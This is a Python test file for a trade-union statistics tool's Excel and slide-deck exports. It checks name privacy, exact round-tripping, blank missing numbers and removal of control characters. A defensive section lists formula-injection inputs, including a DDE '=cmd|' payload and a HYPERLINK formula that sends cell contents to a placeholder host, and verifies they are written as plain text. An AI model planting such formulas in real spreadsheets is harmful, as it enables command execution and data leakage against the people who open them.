"""The standard-format export: every value back as it went in, and never the 对象 names unless asked for."""

import datetime as dt
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from builders import dataset
from workbooks import workbook_bytes

from unionstats.cli import main as cli
from unionstats.contract import registry, schema
from unionstats.exports.deck import deck_bytes
from unionstats.exports.workbook import write_dataset
from unionstats.figures import engine as stats
from unionstats.intake.loading import load_bytes, load_path
from unionstats.kinds import competitions as competitions_kind
from unionstats.kinds import donations as donations_kind
from unionstats.kinds import visits as visits_kind
from unionstats.store.importing import content_hash

JG, YF = "机关工会", "一分会"
NAMES = ["张三丰", "李四光", "欧阳娜娜", "司马相如"]
NOTED = ["王大锤", "赵小花"]  # names a clerk wrote in 备注, which no column marks as personal
PERSONAL = ("person", "notes")
MEMBERS = {JG: 120, YF: 35}

EVENTS = [
    dict(date="2024-01-01", name="元旦长跑", category="文体活动", participants=120, spending=0.1, unit=JG,
         notes=f"上午，{NOTED[0]}带队"),
    dict(date="2024-02-10", name="春节联欢", category="节日活动", participants=0, spending=0.36, unit=YF),
    dict(date="2024-03-31", name="读书会", category="学习培训", participants=7, spending=12345.67, unit=JG),
    dict(date="2024-03-31", name="无经费活动", category="其他", participants=3, spending=0.0, unit=YF),
]
VISITS = [
    dict(date="2024-01-05", reason="生病住院", group="在职职工", person=NAMES[0], count=1, amount=500.0, unit=JG),
    dict(date="2024-02-01", reason="结婚", group="", person=NAMES[1], count=2, amount=0.36, unit=YF,
         notes=f"{NOTED[1]}新婚慰问"),
    dict(date="2024-02-29", reason="困难帮扶", group="离退休人员", person="", count=1, amount=12345.67, unit=JG),
    dict(date="2024-03-08", reason="节日慰问", group="女职工", person=NAMES[2], count=30, amount=0.1, unit=JG),
    dict(date="2024-03-31", reason="丧事", group="在职职工", person=NAMES[3], count=1, amount=1000.01, unit=YF),
]
DONATIONS = [
    dict(date="2024-01-20", campaign="慈善一日捐", cash=12345.67, goods=0, donors=88, kind="集体", unit=JG),
    dict(date="2024-03-01", campaign="冬衣捐赠", cash=0.0, goods=40, goods_note="新棉被", donors=None, kind="",
         unit=YF),
    dict(date="2024-03-02", campaign="特殊党费", cash=0.36, goods=0, donors=1, kind="特殊党费", unit=JG),
]
COMPETITIONS = [
    dict(date="2024-03-15", name="全民健身运动会", level="市级", event="女子团体", entry="团体", entrants=12,
         result="第一名", awards=1, unit=JG),
    dict(date="2024-03-20", name="职工书画展", level="", event="", entry="个人", entrants=None, result="其他奖项",
         award_name="最佳组织奖", awards=3, unit=YF),
    dict(date="2024-03-31", name="羽毛球赛", level="系统内", event="男单", entry="个人", entrants=4, result="参与",
         awards=1, unit=JG),
]
BUDGET = [
    dict(date="2024-01-01", subject="文体活动", amount=60000.0, unit=JG, notes=f"{NOTED[0]}经手"),
    dict(date="2024-01-01", subject="业务支出", amount=0.36, unit=YF),
]
RECORDS = {"events": EVENTS, "visits": VISITS, "donations": DONATIONS, "competitions": COMPETITIONS,
           "budget": BUDGET}


def source() -> object:
    return dataset(events=EVENTS, visits=VISITS, donations=DONATIONS, competitions=COMPETITIONS, members=MEMBERS,
                   budget=BUDGET)


def expected_cell(record: dict, column: schema.Column) -> object:
    """What the cell of a record should hold, worked out here from the record alone."""
    value = record.get(column.key, column.default)
    if column.kind == schema.DATE:
        return dt.datetime.fromisoformat(value)
    if column.kind == schema.YEAR:
        return dt.date.fromisoformat(value).year
    if column.kind == schema.RESULT and value == schema.OTHER_AWARD:
        return record["award_name"]
    if column.kind in (schema.TEXT, schema.CATEGORY, schema.RESULT):
        return value or None
    return value


def sheet_rows(path) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(path)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def every_text(path) -> str:
    """The cells and every XML part of the file, so a name hidden anywhere in the package is found."""
    cells = [str(v) for rows in sheet_rows(path).values() for row in rows for v in row if v is not None]
    with zipfile.ZipFile(path) as package:
        parts = [package.read(n).decode("utf-8", "replace") for n in package.namelist()]
    return "\n".join(cells + parts)


def comparable(frame) -> list[dict]:
    return frame.drop(columns=["source"]).to_dict("records")


@pytest.fixture
def exported(tmp_path):
    def write(with_names: bool):
        path = tmp_path / ("with-names.xlsx" if with_names else "export.xlsx")
        write_dataset(source(), path, with_names=with_names)
        return path
    return write


def test_the_names_and_the_notes_are_not_exported_by_default(exported):
    path = exported(False)
    rows = sheet_rows(path)
    for title, sheet_cells in rows.items():
        assert "对象" not in sheet_cells[0] and "备注" not in sheet_cells[0], title
        assert not {"姓名", "慰问对象", "person", "说明", "notes"} & set(sheet_cells[0]), title
    text = every_text(path)
    for name in NAMES + NOTED:
        assert name not in text


def test_the_names_are_exported_in_their_rows_only_when_asked_for(exported):
    rows = sheet_rows(exported(True))
    header, *body = rows[visits_kind.SHEET.name]
    assert header == tuple(c.name for c in visits_kind.SHEET.columns)
    at = header.index("对象")
    assert [row[at] for row in body] == [r["person"] or None for r in VISITS]
    assert [row[header.index("日期")].date().isoformat() for row in body] == [r["date"] for r in VISITS]


def test_the_notes_are_exported_on_every_sheet_only_when_names_are_asked_for(exported):
    path = exported(True)
    rows = sheet_rows(path)
    for sheet in registry.sheets():
        header, *body = rows[sheet.name]
        assert header[-1] == "备注", sheet.name
        assert [row[-1] for row in body] == [r.get("notes") or None for r in RECORDS[sheet.key]], sheet.name
    text = every_text(path)
    assert all(name in text for name in NAMES + NOTED)


@pytest.mark.parametrize("with_names", [False, True], ids=["without-names", "with-names"])
def test_every_other_value_is_exported_exactly(exported, with_names):
    rows = sheet_rows(exported(with_names))
    assert list(rows) == [s.name for s in registry.sheets()] + [schema.INFO_SHEET_NAMES[0]]
    for sheet in registry.sheets():
        columns = [c for c in sheet.columns if with_names or c.key not in PERSONAL]
        header, *body = rows[sheet.name]
        assert header == tuple(c.name for c in columns), sheet.name
        expected = [tuple(expected_cell(r, c) for c in columns) for r in RECORDS[sheet.key]]
        assert body == expected, sheet.name
        for row in body:  # 1 == 1.0 == True: counts must be written as whole numbers, money as numbers
            for column, value in zip(columns, row):
                if value is not None and column.kind == schema.INT:
                    assert type(value) is int, (sheet.name, column.key, value)
                if column.kind == schema.MONEY:  # xlsx keeps no int/float distinction: 0.0 reads back as 0
                    assert type(value) in (int, float), (sheet.name, column.key, value)
    assert rows[schema.INFO_SHEET_NAMES[0]] == [("单位名称", "会员人数", "报告期"), (JG, 120, None), (YF, 35, None)]


@pytest.mark.parametrize("with_names", [False, True], ids=["without-names", "with-names"])
def test_the_export_loads_back_to_the_same_rows_and_figures(exported, with_names):
    original, loaded = source(), load_path(exported(with_names))
    assert not loaded.report.errors, [i.text() for i in loaded.report.issues]
    for key in RECORDS:
        want = original.frame(key).copy()
        for column in [] if with_names else [c for c in PERSONAL if c in want]:
            want[column] = ""
        assert comparable(loaded.frame(key)) == comparable(want), key
        assert loaded.frame(key).dtypes.to_dict() == original.frame(key).dtypes.to_dict(), key
    assert loaded.members() == MEMBERS
    assert stats.figures(loaded) == stats.figures(original)


VISIT_HEAD = ["日期", "事由", "对象类别", "姓名", "人次", "金额", "单位", "说明"]


@pytest.fixture
def stored(tmp_path):
    """A store holding one workbook whose 慰问 sheet has names under the aliases 姓名 and 说明 (备注)."""
    path = tmp_path / "一季度.xlsx"
    visits = [[r["date"], r["reason"], r["group"] or None, r["person"] or None, r["count"], r["amount"], r["unit"],
               r.get("notes")] for r in VISITS]
    events = [["日期", "活动名称", "类别", "参与人次", "支出", "单位"],
              *([r["date"], r["name"], r["category"], r["participants"], r["spending"], r["unit"]] for r in EVENTS)]
    info = [["单位名称", "会员人数"], [JG, 120]]
    path.write_bytes(workbook_bytes({"活动": events, "慰问": [VISIT_HEAD, *visits], "单位信息": info}))
    db = f"sqlite:///{tmp_path / 'store.db'}"
    assert cli.main(["import", str(path), "--db", db]) == 0
    return path, db


def test_the_export_command_leaves_the_names_out(stored, tmp_path, capsys):
    path, db = stored
    out = tmp_path / "导出.xlsx"
    assert cli.main(["export", str(out), "--db", db]) == 0
    printed = capsys.readouterr().out
    assert "已导出 9 行" in printed and "姓名" not in printed
    header = sheet_rows(out)[visits_kind.SHEET.name][0]
    assert not {"对象", "姓名", "备注", "说明"} & set(header)
    text = every_text(out)
    for name in NAMES + NOTED:
        assert name not in text
    original, loaded = load_path(path), load_path(out)
    assert stats.figures(loaded) == stats.figures(original)
    assert set(loaded.visits["person"]) == {""} and set(loaded.visits["notes"]) == {""}


def test_the_export_command_with_names_keeps_them_in_their_rows(stored, tmp_path, capsys):
    path, db = stored
    out = tmp_path / "导出含姓名.xlsx"
    assert cli.main(["export", str(out), "--with-names", "--db", db]) == 0
    assert "含慰问对象姓名" in capsys.readouterr().out
    header, *body = sheet_rows(out)[visits_kind.SHEET.name]
    person, notes = header.index("对象"), header.index("备注")
    assert [(row[0].date().isoformat(), row[person], row[notes]) for row in body] == [
        (r["date"], r["person"] or None, r.get("notes")) for r in VISITS]
    assert comparable(load_path(out).visits) == comparable(load_path(path).visits)


def test_headers_are_bold_on_every_sheet(exported):
    book = openpyxl.load_workbook(exported(False))
    for ws in book.worksheets:
        assert [c.font.bold for c in ws[1]] == [True] * ws.max_column, ws.title
        assert not any(c.font.bold for row in ws.iter_rows(min_row=2) for c in row), ws.title


def test_without_being_told_the_export_leaves_the_names_out(tmp_path):
    path = tmp_path / "默认.xlsx"
    write_dataset(source(), path)
    header = sheet_rows(path)[visits_kind.SHEET.name][0]
    assert not {"对象", "备注"} & set(header) and len(header) == len(visits_kind.SHEET.columns) - 2
    text = every_text(path)
    assert not [name for name in NAMES + NOTED if name in text]


def test_unit_information_keeps_the_report_period_and_leaves_unknown_members_blank(tmp_path):
    data = source()
    data.units = pd.DataFrame({"unit": [JG, YF, "二分会"], "members": [120, None, 8],
                               "period_text": ["2024年第一季度", "", "一季度"], "source": "t.xlsx"}).astype(
        {"unit": "str", "members": "Int64", "period_text": "str", "source": "str"})
    path = tmp_path / "报告期.xlsx"
    write_dataset(data, path)
    assert sheet_rows(path)[schema.INFO_SHEET_NAMES[0]] == [
        ("单位名称", "会员人数", "报告期"), (JG, 120, "2024年第一季度"), (YF, None, None), ("二分会", 8, "一季度")]
    loaded = load_path(path)
    assert loaded.members() == {JG: 120, "二分会": 8}


def test_missing_numbers_are_blank_cells_not_nan(exported):
    """A NaN written as a number is an empty <v> element, which Excel reports as unreadable content."""
    with zipfile.ZipFile(exported(True)) as package:
        sheets = [package.read(n).decode("utf-8") for n in package.namelist() if n.startswith("xl/worksheets/")]
    for xml in sheets:
        assert "<v></v>" not in xml and "<v/>" not in xml and ">nan<" not in xml.lower()
    rows = sheet_rows(exported(True))
    header, *body = rows[competitions_kind.SHEET.name]
    at = header.index("参赛人数")
    assert [row[at] for row in body] == [r["entrants"] for r in COMPETITIONS]  # 12, None, 4
    header, *body = rows[donations_kind.SHEET.name]
    assert [row[header.index("参与人数")] for row in body] == [88, None, 1]


# Hostile text: what a clerk types is written back as that text, never as a formula, and never breaks the file.

TYPED = ['=HYPERLINK("http://x/"&A1,"click")', "=cmd|' /C notepad'!A1", "=NOW()", "+1+2", "-3+4", "@SUM(A1)",
         "#N/A", "="]


def typed_as_text(sheets: dict[str, list[list]]) -> bytes:
    """A workbook whose strings are text cells, as Excel stores what is typed into a text-formatted cell."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        ws = book.create_sheet(name)
        for row in rows:
            ws.append(row)
        for cell in (c for cells in ws.iter_rows() for c in cells if isinstance(c.value, str)):
            cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def formula_like() -> bytes:
    day = dt.date(2024, 3, 1)
    return typed_as_text({
        "活动": [["日期", "活动名称", "类别", "参与人次", "支出", "单位", "备注"],
               *([day, text, "文体活动", 3, 10, text, text] for text in TYPED)],
        "捐款": [["日期", "项目", "捐款金额", "物资说明", "单位", "备注"], *([day, t, 1, t, JG, t] for t in TYPED)],
        "比赛": [["日期", "赛事名称", "项目", "名次", "单位"], *([day, t, t, t, JG] for t in TYPED)],
        "慰问": [["日期", "事由", "对象", "单位", "备注"], *([day, "结婚", t, JG, t] for t in TYPED)],
        "单位信息": [["单位名称", "会员人数", "报告期"], [TYPED[0], 10, TYPED[2]]],
    })


def texts(dataset) -> dict[str, list]:
    return {key: comparable(frame) for key, frame in dataset.frames().items()} | {
        "units": dataset.units.drop(columns=["source"]).to_dict("records")}


@pytest.mark.parametrize("with_names", [False, True], ids=["without-names", "with-names"])
def test_text_that_looks_like_a_formula_is_exported_as_text(tmp_path, with_names):
    original = load_bytes(formula_like(), "公式.xlsx")
    assert not original.report.issues, [i.text() for i in original.report.issues]
    assert set(original.events["name"]) == set(TYPED) and set(original.events["unit"]) == set(TYPED)
    path = tmp_path / "导出.xlsx"
    write_dataset(original, path, with_names=with_names)
    book = openpyxl.load_workbook(path)
    shown = [(ws.title, c.coordinate, c.data_type) for ws in book for row in ws.iter_rows() for c in row
             if c.data_type in ("f", "e")]
    assert shown == []
    assert cli.main(["check", str(path)]) == 0
    loaded = load_path(path)
    assert not loaded.report.issues, [i.text() for i in loaded.report.issues]
    if with_names:
        assert texts(loaded) == texts(original)
        assert content_hash(loaded) == content_hash(original)
    else:
        assert comparable(loaded.events.drop(columns="notes")) == comparable(original.events.drop(columns="notes"))
    assert loaded.units["unit"].tolist() == [TYPED[0]]


def exported_workbooks(loaded, tmp_path) -> list[openpyxl.Workbook]:
    path = tmp_path / "导出.xlsx"
    write_dataset(loaded, path, with_names=True)
    return [openpyxl.load_workbook(path)]


def deck_workbooks(loaded, tmp_path) -> list[openpyxl.Workbook]:
    """The workbook behind each chart of the 汇报PPT, as PowerPoint or WPS opens it to edit the chart's data."""
    with zipfile.ZipFile(io.BytesIO(deck_bytes(stats.figures(loaded, None), "工会"))) as package:
        return [openpyxl.load_workbook(io.BytesIO(package.read(name))) for name in package.namelist()
                if name.startswith("ppt/embeddings/")]


# Every file we write that holds a workbook: a new writer of one joins this list.
WORKBOOK_WRITERS = {"export": exported_workbooks, "deck": deck_workbooks}


@pytest.mark.parametrize("writer", WORKBOOK_WRITERS.values(), ids=WORKBOOK_WRITERS.keys())
def test_text_that_looks_like_a_formula_stays_text_in_every_workbook_we_write(tmp_path, writer):
    """Unit, project and person names typed as =HYPERLINK(…), =cmd|…, +1+2 are written as text cells, never run."""
    original = load_bytes(formula_like(), "公式.xlsx")
    cells = [cell for book in writer(original, tmp_path) for sheet in book for row in sheet.iter_rows()
             for cell in row]
    assert cells
    live = [(c.coordinate, c.value) for c in cells if c.data_type in ("f", "e") or c.hyperlink is not None]
    assert live == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(TYPED) <= texts, set(TYPED) - texts


CONTROLS = "\x00\x01\x08\x0b\x0c\x0e\x1b\x1f\x7f"


def test_control_characters_are_left_out_and_the_export_still_writes(tmp_path):
    """Defence in depth: the loader strips them, but a dataset may reach the export another way."""
    dirty = dataset(
        events=[dict(date="2024-03-01", name=f"春{CONTROLS}游", category="文体活动", participants=3, spending=1.0,
                     unit=f"机关{CONTROLS}工会", notes="上午\t集合\n下午\x01返回")],
        visits=[dict(date="2024-03-02", reason="结婚", person=f"张{CONTROLS}三", count=1, amount=1.0, unit=JG)],
        donations=[dict(date="2024-03-03", campaign=f"捐{CONTROLS}款", cash=1.0, goods=0, goods_note="\x0b棉被",
                        unit=JG)],
        competitions=[dict(date="2024-03-04", name=f"比{CONTROLS}赛", event="\x1f羽毛球", result="其他奖项",
                           award_name=f"最佳{CONTROLS}组织奖", unit=JG)],
        members={f"机关{CONTROLS}工会": 20, JG: 10})
    path = tmp_path / "控制字符.xlsx"
    write_dataset(dirty, path, with_names=True)
    rows = sheet_rows(path)
    cells = [v for sheet_cells in rows.values() for row in sheet_cells for v in row if isinstance(v, str)]
    assert not [c for c in cells if set(c) & set(CONTROLS)]
    clean = {"春游", "机关工会", "上午\t集合\n下午返回", "张三", "捐款", "棉被", "比赛", "羽毛球", "最佳组织奖"}
    assert clean <= set(cells)
    assert rows[schema.INFO_SHEET_NAMES[0]][1][0] == "机关工会"


def test_printable_drops_exactly_what_a_workbook_or_a_word_file_cannot_hold():
    from unionstats.exports.text import printable

    kept = "\t\n"
    assert [c for c in map(chr, range(0x20)) if printable(c)] == list(kept)
    assert printable("\x7f\ud800\udfff\ufffe\uffff") == ""
    typed = "机关工会 =NOW() ~!@#$%^&*()_+{}|:\"<>?`-=[]\\;',./ 「」、。\u3000\x80\u00a0😀"
    assert printable(typed) == typed
